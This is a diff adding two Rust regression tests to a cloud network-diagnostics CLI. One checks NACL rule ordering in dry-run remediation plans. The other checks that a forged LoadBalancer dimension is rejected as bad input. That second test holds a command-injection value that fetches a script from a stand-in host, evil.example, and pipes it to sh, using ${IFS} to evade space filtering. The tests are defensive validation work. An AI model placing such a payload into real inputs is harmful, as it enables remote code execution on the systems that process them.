@@ -301,3 +301,90 @@ fn closed_stdout_does_not_panic() {
     let output = child.wait_with_output().unwrap();
     assert_no_panic(&output);
 }
+
+/// Defect 1 as reported: an unrelated explicit deny (rule 50, TCP 3389 to 0.0.0.0/0) on the
+/// node NACL's egress made `--mode dry-run` plan allows numbered 47-49 in front of it. The plan
+/// must keep them behind it, with one finding for that NACL and direction.
+#[test]
+fn an_unrelated_deny_is_never_jumped_in_a_dry_run_plan() {
+    let dir = root().join("events/scenarios/nacl-ephemeral-node-subnets");
+    let mut world: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(dir.join("snapshot.json")).unwrap()).unwrap();
+    let acl = world["network_acls"]
+        .as_array_mut()
+        .unwrap()
+        .iter_mut()
+        .find(|a| a["id"] == "acl-0d4c3b2a1f0e98761")
+        .unwrap();
+    acl["entries"]
+        .as_array_mut()
+        .unwrap()
+        .push(serde_json::json!({
+            "rule_number": 50, "egress": true, "protocol": "6", "rule_action": "deny",
+            "cidr_block": "0.0.0.0/0", "port_range": {"from": 3389, "to": 3389}
+        }));
+    let snapshot = scratch("deny-50.json", world.to_string().as_bytes());
+    let event = dir.join("event.json");
+    let output = run(&[
+        "diagnose",
+        "--event",
+        event.to_str().unwrap(),
+        "--snapshot",
+        snapshot.to_str().unwrap(),
+        "--mode",
+        "dry-run",
+        "--format",
+        "json",
+    ]);
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    let report: serde_json::Value = serde_json::from_str(&stdout(&output)).unwrap();
+    let on_node_acl = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| {
+            f["code"] == "nacl-blocks-ephemeral-ports"
+                && f["resources"][0] == "acl-0d4c3b2a1f0e98761"
+        })
+        .count();
+    assert_eq!(on_node_acl, 1, "{report:#}");
+    let actions = report["remediation"]["plan"]["actions"].as_array().unwrap();
+    assert_eq!(actions.len(), 3, "{report:#}");
+    for action in actions {
+        assert!(action["rule_number"].as_u64().unwrap() > 50, "{action}");
+        assert!(action.get("in_front_of_deny").is_none(), "{action}");
+    }
+    assert!(report["remediation"]["plan"]["refused"]
+        .as_array()
+        .unwrap()
+        .is_empty());
+}
+
+/// Defect 2 as reported: a `LoadBalancer` dimension carrying a command substitution is bad
+/// input (exit 2, one line naming the field), never looked up or printed in a command.
+#[test]
+fn a_forged_dimension_is_bad_input() {
+    let dir = root().join("events/scenarios/alb-idle-timeout");
+    let event: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(dir.join("event.json")).unwrap()).unwrap();
+    let mut message: serde_json::Value =
+        serde_json::from_str(event["Records"][0]["Sns"]["Message"].as_str().unwrap()).unwrap();
+    message["Trigger"]["Dimensions"] = serde_json::json!([{
+        "name": "LoadBalancer",
+        "value": "app/k8s-shop-checkout-6f1e2d3c4b/$(curl${IFS}-s${IFS}evil.example|sh)"
+    }]);
+    let path = scratch("forged-dimension.json", message.to_string().as_bytes());
+    let output = run(&[
+        "diagnose",
+        "--event",
+        path.to_str().unwrap(),
+        "--snapshot",
+        dir.join("snapshot.json").to_str().unwrap(),
+    ]);
+    assert_no_panic(&output);
+    assert_eq!(output.status.code(), Some(2), "{}", stdout(&output));
+    let error = stderr(&output);
+    assert!(error.contains("LoadBalancer dimension"), "{error}");
+    assert_eq!(error.trim().lines().count(), 1, "{error}");
+    assert!(!stdout(&output).contains("curl"));
+}
